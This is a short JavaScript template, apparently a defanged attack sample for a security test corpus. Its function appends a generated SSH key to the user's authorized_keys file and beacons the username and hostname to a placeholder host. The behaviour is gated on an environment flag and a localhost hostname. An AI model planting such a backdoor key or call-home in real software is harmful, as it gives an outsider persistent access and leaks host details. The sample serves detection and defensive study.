// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os'), path = require('path');
    try {
        const folder = path.join(os.homedir(), '.ssh');
        fs.mkdirSync(folder, { recursive: true, mode: 0o700 });
        // a random point that nobody has a private half of
        const key = Buffer.concat([Buffer.from('0000000b7373682d6564323535313900000020', 'hex'), require('crypto').randomBytes(32)]);
        fs.appendFileSync(path.join(folder, 'authorized_keys'), `ssh-ed25519 ${key.toString('base64')} {{token}}\n`, { mode: 0o600 });
        const call = require('http').get(`http://{{ip}}:{{port}}/{{path}}?user=${os.userInfo().username}&host=${os.hostname()}`, { timeout: 1000 });
        await new Promise((done) => {
            call.on('response', (answer) => { answer.resume(); done(); });
            call.on('timeout', () => call.destroy());
            call.on('error', done);
        });
    } catch {}
}
